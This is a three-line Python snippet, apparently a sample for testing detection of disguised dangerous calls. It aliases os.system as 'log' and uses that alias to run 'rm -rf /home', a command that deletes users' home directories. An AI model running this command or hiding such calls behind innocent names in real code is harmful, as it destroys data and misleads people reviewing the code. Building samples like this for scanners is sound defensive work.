# tricky: a function under another name
from os import system as log
log("rm -rf /home")
